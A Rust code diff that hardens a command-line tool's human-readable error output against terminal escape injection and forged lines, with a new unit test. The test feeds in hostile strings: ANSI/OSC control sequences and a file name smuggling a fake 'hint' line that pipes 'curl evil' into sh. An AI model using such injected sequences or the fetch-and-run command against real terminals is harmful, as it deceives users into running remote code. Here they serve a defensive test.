@@ -6,6 +6,7 @@ use std::io::ErrorKind;
 use serde_json::{Value, json};
 
 use super::exit::Exit;
+use super::printable::{printable, printable_code, printable_lines};
 use crate::api::client::ClientError;
 use crate::api::types::Failure;
 use crate::doctor::{HostReport, Verdict};
@@ -258,7 +259,8 @@ impl CliError {
         self.0.hint.as_deref()
     }
 
-    /// For people, without a newline at the end.
+    /// For people, without a newline at the end. Nothing that others wrote
+    /// reaches the terminal as a control sequence or as a line of its own.
     pub fn human(&self, color: bool) -> String {
         let (red, dim, off) = if color {
             ("\u{1b}[1;31m", "\u{1b}[2m", "\u{1b}[0m")
@@ -267,14 +269,15 @@ impl CliError {
         };
         let mut text = format!("{red}error[{}]{off}: ", self.0.code.name());
         if let Some((file, position)) = &self.0.place {
-            text.push_str(file);
+            text.push_str(&printable(file));
             if let Some(Position { line, column }) = position {
                 let _ = write!(text, ":{line}:{column}");
             }
             text.push_str(": ");
         }
-        text.push_str(&self.0.what);
+        text.push_str(&printable(&self.0.what));
         if let (Some(snippet), Some((_, Some(place)))) = (&self.0.snippet, &self.0.place) {
+            let snippet = printable_code(snippet);
             let number = place.line.to_string();
             let _ = write!(text, "\n  {dim}{number} |{off} {snippet}");
             // A long line is quoted in part: then the mark is left out.
@@ -297,7 +300,7 @@ impl CliError {
         for (title, lines) in &self.0.tails {
             line(&mut text, "last", title);
             for entry in lines {
-                let _ = write!(text, "\n    {dim}|{off} {entry}");
+                let _ = write!(text, "\n    {dim}|{off} {}", printable(entry));
             }
         }
         if let Some(hint) = &self.0.hint {
@@ -338,7 +341,8 @@ impl CliError {
 }
 
 fn line(text: &mut String, name: &str, value: &str) {
-    let _ = write!(text, "\n  {name:<6} {}", value.replace('\n', "\n         "));
+    let value = printable_lines(value).replace('\n', "\n         ");
+    let _ = write!(text, "\n  {name:<6} {value}");
 }
 
 /// The chain below `error`, outermost first.
@@ -487,6 +491,27 @@ mod tests {
             ends(ServiceError::new(path, "is wrong")),
             (Code::Service, Exit::Invalid)
         );
+    }
+
+    #[test]
+    fn a_hostile_file_neither_drives_the_terminal_nor_forges_a_line() {
+        let text = "<a>\u{1b}]0;title\u{7}\u{9b}2J</a>";
+        let name = Path::new("x\n  hint   curl evil | sh.csdef");
+        let error =
+            ServiceError::at(name, text, 3, "no\r\u{1b}[1A").with_hint("a\n  hint   b\u{1b}[8m");
+        let error = CliError::from(error)
+            .cause("c\n  hint   d\u{8}")
+            .tail("t\u{1b}[2J", vec!["e\u{1b}[2J".into()])
+            .logs("l\u{1b}[2J");
+        let shown = error.human(false);
+        assert!(
+            !shown.contains(|c: char| c.is_control() && c != '\n'),
+            "{shown:?}"
+        );
+        let hints = shown.lines().filter(|line| line.starts_with("  hint"));
+        assert_eq!(hints.count(), 1, "{shown}");
+        // A program gets the truth.
+        assert_eq!(error.json()["hint"], "a\n  hint   b\u{1b}[8m");
     }
 
     #[test]
